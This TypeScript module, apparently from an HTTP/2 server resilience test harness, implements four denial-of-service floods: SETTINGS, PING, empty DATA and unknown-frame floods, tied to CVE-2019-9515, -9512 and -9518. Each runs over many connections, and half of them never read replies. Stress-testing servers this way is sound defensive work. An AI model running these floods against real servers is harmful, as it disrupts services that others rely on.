import {
  type Attack,
  type AttackBudget,
  type AttackOutcome,
  createTally,
  repeat,
  type Target,
} from "./attack.js";
import {
  dataFrame,
  headersFrame,
  pingFrame,
  settingsFrame,
  writeFrame,
} from "./h2-frames.js";
import { grpcHeaders, openH2, streamPath } from "./h2-session.js";

const connections = 16;
const batch = 500;

/** SETTINGS frames, each of which wants an answer (CVE-2019-9515). */
export const settingsFlood: Attack = {
  name: "settings-flood",
  what: "SETTINGS frames; every other connection does not read the answers",
  unit: "frames",
  full: { count: 500_000, holdMs: 0 },
  quick: { count: 32_000, holdMs: 0 },
  run: (target, budget) => flood(target, budget, settingsFrame),
};

/** PING frames, each of which wants an answer (CVE-2019-9512). */
export const pingFlood: Attack = {
  name: "ping-flood",
  what: "PING frames; every other connection does not read the answers",
  unit: "frames",
  full: { count: 500_000, holdMs: 0 },
  quick: { count: 32_000, holdMs: 0 },
  run: (target, budget) => flood(target, budget, pingFrame),
};

/** Frames of an open stream that carry nothing (CVE-2019-9518). */
export const emptyDataFlood: Attack = {
  name: "empty-data-flood",
  what: "DATA frames that carry nothing, in an open stream",
  unit: "frames",
  full: { count: 500_000, holdMs: 0 },
  quick: { count: 32_000, holdMs: 0 },
  run: (target, budget) => flood(target, budget, dataFrame(1, Buffer.alloc(0))),
};

/** Frames of a type that there is not, which have to be passed over. */
export const unknownFrameFlood: Attack = {
  name: "unknown-frame-flood",
  what: "frames of an unknown type",
  unit: "frames",
  full: { count: 500_000, holdMs: 0 },
  quick: { count: 32_000, holdMs: 0 },
  run: (target, budget) =>
    flood(target, budget, writeFrame(0xee, 0, 0, Buffer.alloc(16))),
};

async function flood(
  target: Target,
  { count }: AttackBudget,
  frame: Buffer,
): Promise<AttackOutcome> {
  const tally = createTally();
  const packet = Buffer.concat(Array.from({ length: batch }, () => frame));
  let left = count;
  await repeat(connections, connections, async (index) => {
    while (left > 0) {
      const connection = await openH2(target);
      await connection.write(headersFrame(1, grpcHeaders(streamPath)));
      if (index % 2 === 1) {
        connection.socket.pause();
      }
      while (left > 0 && (await connection.write(packet))) {
        left -= batch;
        tally.add("frames", batch);
        await new Promise((resolve) => setImmediate(resolve));
      }
      // What is left by RST is never read.
      const wasCut = connection.isClosed();
      await connection.finish(30_000);
      tally.add(wasCut ? "connections cut" : "connections left");
      connection.leave();
    }
  });
  return { counts: tally.counts, wrong: [] };
}
